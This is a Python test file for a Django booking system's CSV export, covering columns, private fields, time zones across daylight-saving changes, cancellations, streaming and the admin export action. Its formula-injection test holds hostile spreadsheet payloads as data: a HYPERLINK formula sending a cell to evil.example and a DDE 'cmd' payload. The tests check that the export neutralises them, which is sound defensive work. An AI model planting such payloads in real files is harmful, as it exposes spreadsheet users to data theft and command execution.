"""The bookings CSV export: every column a back office needs and none of the private words,
times in the reader's zone (offsets right on both sides of a DST change) and in UTC, who
cancelled and whether late, text typed by people never run as a spreadsheet formula, one
query however many bookings (read in chunks, written as it downloads), and the admin's
action exporting just the selected bookings in the staff member's zone."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import connection
from django.db.models.query import QuerySet
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.tests.factories import ClientFactory, StaffFactory
from availability.models import Resource
from bookings import export, services
from bookings.export import COLUMNS, bookings_in_range, csv_response, rows, stream
from bookings.models import Booking, PromoCode
from bookings.services import series as series_services
from bookings.services.payment import expire_payment_holds
from bookings.tests.factories import GroupTypeFactory, SessionTypeFactory, open_coach

pytestmark = pytest.mark.django_db

UTC = dt.UTC
PARIS = ZoneInfo("Europe/Paris")
NEW_YORK = ZoneInfo("America/New_York")
NOW = dt.datetime(2026, 3, 1, 6, 0, tzinfo=UTC)
MARCH = (dt.datetime(2026, 3, 1, tzinfo=UTC), dt.datetime(2026, 4, 1, tzinfo=UTC))


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


def paris(day: int, hour: int, minute: int = 0) -> dt.datetime:
    """A wall-clock time in Paris in March 2026, as the instant the services take."""
    return dt.datetime(2026, 3, day, hour, minute, tzinfo=PARIS).astimezone(UTC)


def make_coach(name: str = "Camille Laurent", **settings):
    coach = open_coach(timezone="Europe/Paris", hours=(0, 23), **settings)
    coach.name = name
    coach.save()
    return coach


@pytest.fixture
def coach():
    return make_coach()


@pytest.fixture
def consultation(coach):
    return SessionTypeFactory(coach=coach, title="Career consultation", approval="never")


def exported(queryset, zone: ZoneInfo = PARIS) -> list[dict[str, str]]:
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows(queryset, zone)]


def by_reference(queryset, zone: ZoneInfo = PARIS) -> dict[str, dict[str, str]]:
    return {row["reference"]: row for row in exported(queryset, zone)}


def read_back(response: StreamingHttpResponse) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


# --- columns --------------------------------------------------------------------------------


def test_the_header_is_stable_snake_case_keys_each_with_translatable_words():
    assert COLUMNS[:3] == ("reference", "status", "status_label")
    assert len(set(COLUMNS)) == len(COLUMNS)
    for key in COLUMNS:
        assert key.isascii() and key == key.lower() and " " not in key
        assert str(export.LABELS[key])
    for private in ("client_notes", "coach_notes", "feedback", "info_request", "info_response"):
        assert private not in COLUMNS


def test_every_column_of_a_booking_made_by_staff_with_a_room_a_code_and_a_move(coach, frozen):
    Resource.objects.create(name="Salle Lumière", kind="room", capacity=4, timezone="Europe/Paris")
    session_type = SessionTypeFactory(
        coach=coach,
        title="Bilan de compétences",
        approval="never",
        modality="in_person",
        resource_kind="room",
        price=Decimal("80.00"),
        currency="EUR",
        duration_minutes=90,
    )
    PromoCode.objects.create(code="SPRING10", coach=coach, percent_off=10)
    client = ClientFactory(name="Chloé Élan", email="chloe@example.com")
    staff = StaffFactory(email="stella@example.com")
    booking = services.book_slot(
        client=client,
        session_type=session_type,
        start=paris(10, 14),
        booked_by=staff,
        notes="I'd rather my employer didn't know.",
        promo_code="SPRING10",
    )
    frozen.move_to(NOW + dt.timedelta(hours=1, minutes=30, seconds=15))
    services.reschedule(booking=booking, actor=staff, start=paris(12, 9, 30))
    Booking.objects.filter(pk=booking.pk).update(coach_notes="Seems anxious.", feedback="Private words.")

    (row,) = exported(Booking.objects.all())

    assert row == {
        "reference": booking.reference,
        "status": "firm_booked",
        "status_label": "Booked",
        "session_type": "Bilan de compétences",
        "session_kind": "one_on_one",
        "modality": "in_person",
        "room": "Salle Lumière",
        "coach_name": "Camille Laurent",
        "coach_email": coach.email,
        "client_name": "Chloé Élan",
        "client_email": "chloe@example.com",
        "booked_by": "stella@example.com",
        "start_local": "2026-03-12T09:30:00+01:00",
        "end_local": "2026-03-12T11:00:00+01:00",
        "timezone": "Europe/Paris",
        "start_utc": "2026-03-12T08:30:00Z",
        "end_utc": "2026-03-12T10:00:00Z",
        "duration_minutes": "90",
        "created_at_utc": "2026-03-01T06:00:00Z",
        "confirmed_at_utc": "2026-03-01T07:30:15Z",  # confirmed again at its new time
        "cancelled_at_utc": "",
        "cancelled_by": "",
        "cancelled_by_role": "",
        "cancellation_reason": "",
        "late_cancellation": "no",
        "decline_reason": "",
        "price": "72.00",
        "currency": "EUR",
        "deposit": "0.00",
        "promo_code": "SPRING10",
        "series_id": "",
        "rating": "",
        "rescheduled": "yes",
    }


def test_a_client_who_books_for_themself_leaves_booked_by_blank(consultation):
    client = ClientFactory(email="self@example.com")
    services.book_slot(client=client, session_type=consultation, start=paris(10, 9))

    (row,) = exported(Booking.objects.all())

    assert (row["client_email"], row["booked_by"], row["rescheduled"], row["room"]) == (
        "self@example.com",
        "",
        "no",
        "",
    )


def test_a_series_and_a_rating(coach, consultation, frozen):
    client = ClientFactory()
    series, outcomes = series_services.book_series(
        client=client, session_type=consultation, start=paris(9, 10), count=2
    )
    first, second = (outcome.booking for outcome in outcomes)
    frozen.move_to(paris(9, 12))
    services.complete_past_sessions()
    first.refresh_from_db()
    services.rate(booking=first, actor=client, rating=4, feedback="Helpful, but I cried.")

    found = by_reference(Booking.objects.all())

    assert [found[b.reference]["series_id"] for b in (first, second)] == [str(series.pk)] * 2
    assert [found[b.reference]["rating"] for b in (first, second)] == ["4", ""]
    assert found[first.reference]["status"] == "completed"
    assert not any("cried" in cell for row in found.values() for cell in row.values())


def test_a_group_seat_has_its_kind_and_deposit(coach):
    group_type = GroupTypeFactory(
        coach=coach, title="Leadership circle", price=Decimal("50.00"), deposit=Decimal("20.00"), currency="EUR"
    )
    session = services.publish_session(actor=coach, session_type=group_type, start=paris(20, 18))
    seat = services.take_seat(client=ClientFactory(), session=session)

    row = by_reference(Booking.objects.all())[seat.reference]

    assert (row["session_kind"], row["price"], row["deposit"], row["currency"]) == ("group", "50.00", "20.00", "EUR")


# --- time zones ---------------------------------------------------------------------------


def test_times_across_the_spring_change_in_paris_new_york_and_utc(consultation):
    client = ClientFactory()
    # New York is on EST (-05:00) until 8 March, Paris on CET (+01:00) until 29 March.
    before = services.book_slot(client=client, session_type=consultation, start=paris(5, 10))
    # 01:00 CET on 29 March: the clocks jump from 02:00 to 03:00 during the session.
    across = services.book_slot(client=client, session_type=consultation, start=paris(29, 1))
    after = services.book_slot(client=client, session_type=consultation, start=paris(30, 10))
    bookings = bookings_in_range(*MARCH)

    def times(zone: ZoneInfo) -> dict[str, tuple[str, str, str, str, str, str]]:
        return {
            reference: (
                row["start_local"],
                row["end_local"],
                row["timezone"],
                row["start_utc"],
                row["end_utc"],
                row["duration_minutes"],
            )
            for reference, row in by_reference(bookings, zone).items()
        }

    assert times(PARIS) == {
        before.reference: (
            "2026-03-05T10:00:00+01:00",
            "2026-03-05T11:00:00+01:00",
            "Europe/Paris",
            "2026-03-05T09:00:00Z",
            "2026-03-05T10:00:00Z",
            "60",
        ),
        across.reference: (
            "2026-03-29T01:00:00+01:00",
            "2026-03-29T03:00:00+02:00",
            "Europe/Paris",
            "2026-03-29T00:00:00Z",
            "2026-03-29T01:00:00Z",
            "60",
        ),
        after.reference: (
            "2026-03-30T10:00:00+02:00",
            "2026-03-30T11:00:00+02:00",
            "Europe/Paris",
            "2026-03-30T08:00:00Z",
            "2026-03-30T09:00:00Z",
            "60",
        ),
    }
    new_york = times(NEW_YORK)
    assert new_york[before.reference][:3] == (
        "2026-03-05T04:00:00-05:00",
        "2026-03-05T05:00:00-05:00",
        "America/New_York",
    )
    assert new_york[across.reference][:3] == (
        "2026-03-28T20:00:00-04:00",
        "2026-03-28T21:00:00-04:00",
        "America/New_York",
    )
    assert new_york[after.reference][:3] == (
        "2026-03-30T04:00:00-04:00",
        "2026-03-30T05:00:00-04:00",
        "America/New_York",
    )
    in_utc = times(ZoneInfo("UTC"))
    assert in_utc[across.reference][:3] == ("2026-03-29T00:00:00+00:00", "2026-03-29T01:00:00+00:00", "UTC")
    # The UTC columns don't depend on the zone chosen.
    assert {ref: value[3:] for ref, value in in_utc.items()} == {ref: value[3:] for ref, value in new_york.items()}


# --- range and filters --------------------------------------------------------------------


def test_the_range_includes_its_start_excludes_its_end_and_orders_by_start_then_id(coach, consultation):
    start, end = paris(10, 8), paris(12, 8)
    client = ClientFactory()
    # Made out of order, so the ids don't follow the times.
    late = services.book_slot(client=client, session_type=consultation, start=paris(11, 15))
    at_end = services.book_slot(client=client, session_type=consultation, start=end)
    at_start = services.book_slot(client=client, session_type=consultation, start=start)
    services.book_slot(client=client, session_type=consultation, start=start - dt.timedelta(hours=1))
    group = services.publish_session(actor=coach, session_type=GroupTypeFactory(coach=coach), start=paris(10, 18))
    seats = [services.take_seat(client=ClientFactory(), session=group) for _ in range(2)]
    cancelled = services.book_slot(client=client, session_type=consultation, start=paris(11, 9))
    services.cancel(booking=cancelled, actor=client)

    found = [row["reference"] for row in exported(bookings_in_range(start, end))]

    assert found == [at_start.reference, seats[0].reference, seats[1].reference, cancelled.reference, late.reference]
    assert at_end.reference not in found
    with pytest.raises(ValueError):
        bookings_in_range(dt.datetime(2026, 3, 10), end)


def test_filters_by_coach_session_type_and_room(coach, consultation):
    room = Resource.objects.create(name="Room 1", kind="room", capacity=2, timezone="Europe/Paris")
    in_room = SessionTypeFactory(coach=coach, title="In the room", approval="never", resource_kind="room")
    other_coach = make_coach("Marcus Bennett")
    elsewhere = SessionTypeFactory(coach=other_coach, approval="never")
    client = ClientFactory()
    consult = services.book_slot(client=client, session_type=consultation, start=paris(10, 9))
    roomed = services.book_slot(client=client, session_type=in_room, start=paris(10, 11))
    others = services.book_slot(client=client, session_type=elsewhere, start=paris(10, 13))

    def refs(**filters) -> list[str]:
        return [row["reference"] for row in exported(bookings_in_range(*MARCH, **filters))]

    assert refs() == [consult.reference, roomed.reference, others.reference]
    assert refs(coach_id=coach.pk) == [consult.reference, roomed.reference]
    assert refs(coach_id=other_coach.pk) == [others.reference]
    assert refs(session_type_id=consultation.pk) == [consult.reference]
    assert refs(resource_id=room.pk) == [roomed.reference]
    assert refs(coach_id=other_coach.pk, session_type_id=consultation.pk) == []


# --- cancellations ------------------------------------------------------------------------


def test_who_cancelled_as_a_role_and_whether_it_was_late(coach, frozen, settings):
    lenient = SessionTypeFactory(
        coach=coach, approval="never", allow_late_cancellation=True, cancellation_notice_hours=48
    )
    client = ClientFactory(email="chloe@example.com")
    staff = StaffFactory(email="stella@example.com")
    kept = services.book_slot(client=client, session_type=lenient, start=paris(1, 20))
    late = services.book_slot(client=client, session_type=lenient, start=paris(2, 10))  # 28 hours ahead
    by_coach = services.book_slot(client=client, session_type=lenient, start=paris(2, 12))
    by_staff = services.book_slot(client=client, session_type=lenient, start=paris(20, 9))
    in_time = services.book_slot(client=client, session_type=lenient, start=paris(20, 11))
    priced = SessionTypeFactory(coach=coach, approval="never", price=Decimal("60.00"))
    held = services.book_slot(client=client, session_type=priced, start=paris(21, 9), hold_for_payment=True)
    requested = services.book_slot(
        client=client, session_type=SessionTypeFactory(coach=coach, approval="always"), start=paris(22, 9)
    )
    frozen.move_to(NOW + dt.timedelta(minutes=5))
    services.cancel(booking=late, actor=client, reason="=My train is cancelled")
    services.cancel(booking=by_coach, actor=coach, reason="I am ill.")
    services.cancel(booking=by_staff, actor=staff, reason="The room flooded.")
    services.cancel(booking=in_time, actor=client)
    assert expire_payment_holds(now=held.expires_at) == 1
    services.decline(booking=requested, actor=coach, reason="I'm away that week.")

    found = by_reference(Booking.objects.all())

    def cancellation(booking: Booking) -> tuple[str, str, str, str, str, str]:
        row = found[booking.reference]
        return (
            row["status"],
            row["cancelled_at_utc"],
            row["cancelled_by"],
            row["cancelled_by_role"],
            row["cancellation_reason"],
            row["late_cancellation"],
        )

    cancelled_at = "2026-03-01T06:05:00Z"
    assert cancellation(kept) == ("firm_booked", "", "", "", "", "no")
    assert cancellation(late) == (
        "cancelled",
        cancelled_at,
        "chloe@example.com",
        "client",
        "'=My train is cancelled",
        "yes",
    )
    assert cancellation(by_coach) == ("cancelled", cancelled_at, coach.email, "coach", "I am ill.", "no")
    assert cancellation(by_staff) == (
        "cancelled",
        cancelled_at,
        "stella@example.com",
        "staff",
        "The room flooded.",
        "no",
    )
    assert cancellation(in_time) == ("cancelled", cancelled_at, "chloe@example.com", "client", "", "no")
    assert cancellation(held)[:4] == ("cancelled", held.expires_at.strftime("%Y-%m-%dT%H:%M:%SZ"), "", "system")
    assert cancellation(requested) == ("declined", "", "", "", "", "no")
    assert found[requested.reference]["decline_reason"] == "I'm away that week."
    assert found[requested.reference]["status_label"] == "Declined"


# --- formula injection --------------------------------------------------------------------


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your invoice")'


def test_text_from_people_cannot_run_as_a_formula_but_the_exports_own_values_stay_values(coach):
    coach.name = "@coach"
    coach.save()
    Resource.objects.create(name="-Room", kind="room", capacity=1, timezone="Europe/Paris")
    session_type = SessionTypeFactory(
        coach=coach, title="+SUM(1;2)", approval="never", resource_kind="room", price=Decimal("10.00")
    )
    client = ClientFactory(name=HYPERLINK, email="-ana@example.com")
    plain = ClientFactory(name="Ana-María O'Neil", email="ana@example.com")
    hostile = services.book_slot(client=client, session_type=session_type, start=paris(10, 9))
    harmless = services.book_slot(client=plain, session_type=session_type, start=paris(10, 11))
    # However it got there (an import, an old row), stored text is made safe on the way out.
    Booking.objects.filter(pk=hostile.pk).update(cancellation_reason="\t=cmd|' /C calc'!A0", decline_reason="\r=1+1")

    found = by_reference(bookings_in_range(*MARCH), NEW_YORK)
    row = found[hostile.reference]

    assert row["client_name"] == "'" + HYPERLINK
    assert row["client_email"] == "'-ana@example.com"
    assert row["coach_name"] == "'@coach"
    assert row["session_type"] == "'+SUM(1;2)"
    assert row["room"] == "'-Room"
    assert row["cancellation_reason"] == "'\t=cmd|' /C calc'!A0"
    assert row["decline_reason"] == "'\r=1+1"
    # Text that starts harmlessly is left alone.
    assert (found[harmless.reference]["client_name"], found[harmless.reference]["client_email"]) == (
        "Ana-María O'Neil",
        "ana@example.com",
    )
    # Times and amounts the export writes itself keep their shape (a New York offset is
    # negative, and still a plain time).
    assert (row["start_local"], row["end_local"]) == ("2026-03-10T04:00:00-04:00", "2026-03-10T05:00:00-04:00")
    assert (row["price"], row["duration_minutes"]) == ("10.00", "60")
    # And the file, read back, still carries the neutralised cell whole.
    body = read_back(csv_response("x.csv", COLUMNS, rows(bookings_in_range(*MARCH), PARIS)))
    assert body[1][COLUMNS.index("client_name")] == "'" + HYPERLINK


# --- the file -----------------------------------------------------------------------------


def test_the_response_streams_a_csv_that_reads_back_to_the_rows(consultation):
    client = ClientFactory(name="Chloé Élan, « la Parisienne »", email="chloe@example.com")
    first = services.book_slot(client=client, session_type=consultation, start=paris(10, 9))
    services.book_slot(client=client, session_type=consultation, start=paris(11, 9))
    services.cancel(booking=first, actor=client, reason='Said "no", then\nchanged my mind')
    bookings = bookings_in_range(*MARCH)
    expected = [list(COLUMNS), *rows(bookings, PARIS)]

    with CaptureQueriesContext(connection) as before_sending:
        response = csv_response("bookings-march.csv", COLUMNS, rows(bookings, PARIS))

    assert isinstance(response, StreamingHttpResponse)
    assert len(before_sending) == 0  # nothing is read until the file is sent
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="bookings-march.csv"'
    assert "no-store" in response["Cache-Control"]
    parsed = read_back(response)
    assert parsed == expected
    assert len(parsed) == 3
    assert parsed[1][COLUMNS.index("client_name")] == "Chloé Élan, « la Parisienne »"
    assert parsed[1][COLUMNS.index("cancellation_reason")] == 'Said "no", then\nchanged my mind'


def test_the_text_comes_line_by_line_after_a_byte_order_mark():
    lines = stream(["a", "b"], iter([["1", "x,y"], ["2", "é"]]))

    assert next(lines) == "\ufeff"
    assert next(lines) == "a,b\r\n"
    assert next(lines) == '1,"x,y"\r\n'
    assert next(lines) == "2,é\r\n"
    assert next(lines, None) is None


def make_bookings(coach, count: int) -> None:
    """``count`` bookings of every sort: one-on-ones with and without a room, a code and a
    staff member booking, cancellations, and group seats."""
    room = Resource.objects.create(name=f"Room for {coach.pk}", kind="room", capacity=20, timezone="Europe/Paris")
    consultation = SessionTypeFactory(coach=coach, approval="never", price=Decimal("40.00"))
    roomed = SessionTypeFactory(coach=coach, approval="never", resource_kind="room")
    roomed.resources.set([room])
    group_type = GroupTypeFactory(coach=coach, capacity=10)
    code = PromoCode.objects.create(code=f"C{coach.pk}", coach=coach, percent_off=10)
    staff = StaffFactory()
    for index in range(count):
        client = ClientFactory()
        start = paris(3 + index // 20, 1 + index % 20)
        if index % 4 == 3:
            session = services.publish_session(actor=coach, session_type=group_type, start=start)
            services.take_seat(client=client, session=session)
            continue
        booking = services.book_slot(
            client=client,
            session_type=roomed if index % 4 == 1 else consultation,
            start=start,
            booked_by=staff if index % 2 else None,
            promo_code=code.code if index % 4 == 2 else "",
        )
        if index % 3 == 0:
            services.cancel(booking=booking, actor=client, reason="Changed my mind")


def test_the_export_reads_once_whatever_the_number_of_bookings(monkeypatch):
    chunk_sizes: list[int | None] = []
    real_iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return real_iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)

    def queries_to_export() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            lines = sum(1 for _ in stream(COLUMNS, rows(bookings_in_range(*MARCH), PARIS)))
        return len(queries), lines - 2  # the byte order mark and the header

    make_bookings(make_coach("First Coach"), 3)
    few, few_rows = queries_to_export()
    make_bookings(make_coach("Second Coach"), 30)
    many, many_rows = queries_to_export()

    assert (few_rows, many_rows) == (3, 33)
    assert few == many == 1
    # Read in chunks, never all at once.
    assert chunk_sizes == [export.CHUNK_SIZE, export.CHUNK_SIZE] and export.CHUNK_SIZE == 2000


# --- the admin ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "zone", "start"),
    [
        ("staff", "Asia/Kolkata", "2026-03-10T13:30:00+05:30"),
        ("admin", "UTC", "2026-03-10T08:00:00+00:00"),
    ],
)
def test_the_admin_exports_only_the_selected_bookings_in_the_staff_members_zone(
    as_role, users_by_role, consultation, role, zone, start
):
    client = ClientFactory()
    later = services.book_slot(client=client, session_type=consultation, start=paris(12, 9))
    skipped = services.book_slot(client=client, session_type=consultation, start=paris(11, 9))
    earlier = services.book_slot(client=client, session_type=consultation, start=paris(10, 9))
    assert users_by_role[role].timezone == zone

    response = as_role(role).post(
        reverse("admin:bookings_booking_changelist"),
        {"action": "export_csv", "_selected_action": [str(later.pk), str(earlier.pk)], "index": "0"},
    )

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="bookings-2026-03-01')
    header, *body = read_back(response)
    assert header == list(COLUMNS)
    found = [dict(zip(COLUMNS, line, strict=True)) for line in body]
    assert [row["reference"] for row in found] == [earlier.reference, later.reference]
    assert skipped.reference not in {row["reference"] for row in found}
    assert (found[0]["timezone"], found[0]["start_local"], found[0]["start_utc"]) == (
        zone,
        start,
        "2026-03-10T08:00:00Z",
    )


def test_the_export_action_is_offered_with_its_words(as_role):
    response = as_role("staff").get(reverse("admin:bookings_booking_changelist"))

    choices = dict(response.context["action_form"].fields["action"].choices)
    assert choices["export_csv"] == "Export the selected bookings as CSV"
